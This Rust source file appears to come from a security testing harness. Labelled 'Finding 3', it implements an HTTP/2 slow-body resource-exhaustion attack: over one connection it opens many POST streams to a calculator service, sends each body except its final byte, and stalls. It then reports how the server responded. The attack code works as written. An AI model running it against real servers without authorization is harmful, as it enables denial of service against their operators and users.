//! Finding 3: one HTTP/2 connection (h2c, prior knowledge) opens many streams, each a
//! `POST /Calculator/add` announcing a body of `--message-bytes` and sending all of it but the
//! last byte, as fast as HTTP/2 flow control lets it, and then nothing.

use std::collections::BTreeMap;
use std::future::poll_fn;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use anyhow::Context as _;
use bytes::Bytes;
use h2::client::{ResponseFuture, SendRequest};
use h2::SendStream;
use tokio::net::TcpStream;
use tokio::sync::watch;
use tokio::task::JoinSet;

use super::wire;
use super::{Details, Plan, Tracker};
use crate::experiments::round1;

/// Largest DATA payload handed to h2 at once.
const CHUNK: usize = 64 * 1024;

#[derive(Debug, Default)]
struct Shared {
    sent: AtomicU64,
    complete: AtomicUsize,
    /// How the host answered streams: "HTTP 408", "reset: ...".
    answers: Mutex<BTreeMap<String, usize>>,
    answer_times: Mutex<Vec<f64>>,
}

impl Shared {
    fn answered(&self, how: String, at: f64) {
        *self
            .answers
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .entry(how)
            .or_insert(0) += 1;
        self.answer_times
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .push(at);
    }
}

/// Sends `len` bytes on `body` as flow control allows; returns only on an error.
async fn send_body(body: &mut SendStream<Bytes>, len: u64, sh: &Shared) -> String {
    let filler = Bytes::from(vec![b' '; CHUNK]);
    let mut left = len;
    body.reserve_capacity(
        usize::try_from(len)
            .unwrap_or(usize::MAX)
            .min(i32::MAX as usize),
    );
    while left > 0 {
        let mut avail = body.capacity() as u64;
        if avail == 0 {
            match poll_fn(|cx| body.poll_capacity(cx)).await {
                None => return "the stream closed".into(),
                Some(Err(e)) => return e.to_string(),
                Some(Ok(_)) => {}
            }
            avail = body.capacity() as u64;
        }
        let mut n = avail.min(left);
        while n > 0 {
            let k = n.min(CHUNK as u64) as usize;
            if let Err(e) = body.send_data(filler.slice(..k), false) {
                return e.to_string();
            }
            (n, left) = (n - k as u64, left - k as u64);
            sh.sent.fetch_add(k as u64, Ordering::Relaxed);
        }
    }
    sh.complete.fetch_add(1, Ordering::Relaxed);
    std::future::pending().await
}

async fn stream_task(
    response: ResponseFuture,
    mut body: SendStream<Bytes>,
    len: u64,
    sh: Arc<Shared>,
    tracker: Arc<Tracker>,
    mut stop: watch::Receiver<bool>,
) {
    tokio::select! {
        r = response => {
            let how = match r {
                Ok(resp) => format!("HTTP {}", resp.status().as_u16()),
                Err(e) => match e.reason() {
                    Some(reason) => format!("reset ({reason:?})"),
                    None => format!("error: {e}"),
                },
            };
            sh.answered(how, tracker.now_s());
        }
        e = send_body(&mut body, len, &sh) => sh.answered(format!("send failed: {e}"), tracker.now_s()),
        _ = stop.wait_for(|s| *s) => {}
    }
}

/// The attack.
pub(crate) async fn partial(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    let tcp = TcpStream::connect(plan.target.addr)
        .await
        .context("connect")?;
    let _ = tcp.set_nodelay(true);
    let (send, connection) = h2::client::handshake(tcp)
        .await
        .context("HTTP/2 handshake")?;
    tracker.opened();
    let conn_tracker = tracker.clone();
    let conn_task = tokio::spawn(async move {
        let ended = connection.await;
        (conn_tracker.now_s(), ended.err().map(|e| e.to_string()))
    });

    let sh = Arc::new(Shared::default());
    let (stop_tx, stop_rx) = watch::channel(false);
    let len = plan.message_bytes - 1;
    let uri = format!(
        "http://{}/{}/{}",
        plan.target.authority,
        wire::SERVICE,
        wire::OPERATION
    );
    let mut set = JoinSet::new();
    let mut send: SendRequest<Bytes> = send;
    let mut opened = 0usize;
    let mut open_error: Option<String> = None;
    let mut all_opened_at = None;
    for _ in 0..plan.conns {
        let ready = tokio::select! {
            r = send.clone().ready() => r,
            _ = tokio::time::sleep_until(plan.until) => break,
        };
        let mut ready = match ready {
            Ok(s) => s,
            Err(e) => {
                open_error = Some(e.to_string());
                break;
            }
        };
        let request = http::Request::post(&uri)
            .header("content-type", "application/json")
            .header("content-length", plan.message_bytes)
            .body(())
            .expect("a valid request");
        match ready.send_request(request, false) {
            Ok((response, body)) => {
                opened += 1;
                set.spawn(stream_task(
                    response,
                    body,
                    len,
                    sh.clone(),
                    tracker.clone(),
                    stop_rx.clone(),
                ));
            }
            Err(e) => {
                open_error = Some(e.to_string());
                break;
            }
        }
        send = ready;
    }
    if opened == plan.conns {
        all_opened_at = Some(round1(tracker.now_s()));
    }
    let max_streams = send.current_max_send_streams();

    // Until the end, or until the host closes the connection.
    let mut conn_task = conn_task;
    let closed = tokio::select! {
        ended = &mut conn_task => Some(ended?),
        _ = tokio::time::sleep_until(plan.until) => None,
    };
    let _ = stop_tx.send(true);
    while set.join_next().await.is_some() {}
    drop(send);
    if closed.is_none() {
        conn_task.abort();
    } else {
        tracker.host_closed();
    }

    let sent = sh.sent.load(Ordering::Relaxed);
    let complete = sh.complete.load(Ordering::Relaxed);
    let answers = sh.answers.lock().unwrap_or_else(|e| e.into_inner()).clone();
    let mut times = sh
        .answer_times
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .clone();
    times.sort_by(f64::total_cmp);
    let mut d = Details::default();
    let allowed = if max_streams == usize::MAX {
        "announced no limit".to_string()
    } else {
        format!("allows {max_streams} at once")
    };
    let mut line = format!(
        "opened {opened} of {} streams on one connection (the host {allowed})",
        plan.conns
    );
    if let Some(t) = all_opened_at {
        line += &format!(", all by {t:.1} s");
    }
    if let Some(e) = &open_error {
        line += &format!("; opening stopped: {e}");
    }
    d.line(line);
    d.line(format!(
        "sent {:.1} MiB of request bodies; {complete} streams sent all {len} bytes of theirs (all but the last byte)",
        sent as f64 / (1 << 20) as f64
    ));
    let answered: usize = answers.values().sum();
    if answered > 0 {
        let v: Vec<String> = answers.iter().map(|(w, n)| format!("{w} ×{n}")).collect();
        d.line(format!(
            "the host answered {answered} streams (first at {:.1} s, last at {:.1} s): {}",
            times[0],
            times[times.len() - 1],
            v.join(", ")
        ));
    } else {
        d.line("the host answered no stream");
    }
    match &closed {
        Some((t, why)) => d.line(format!(
            "the host closed the connection at {t:.1} s{}",
            why.as_ref().map(|w| format!(" ({w})")).unwrap_or_default()
        )),
        None => d.line("the connection was still open at the end"),
    }
    d.set("streams_opened", opened);
    d.set(
        "max_concurrent_streams",
        (max_streams != usize::MAX).then_some(max_streams),
    );
    d.set("open_error", &open_error);
    d.set("bytes_sent", sent);
    d.set("complete", complete);
    d.set("answers", &answers);
    d.set("first_answer_s", times.first().map(|t| round1(*t)));
    d.set("last_answer_s", times.last().map(|t| round1(*t)));
    d.set(
        "connection_closed_at_s",
        closed.as_ref().map(|(t, _)| round1(*t)),
    );
    d.contained = Some(answered == opened || closed.is_some());
    Ok(d)
}
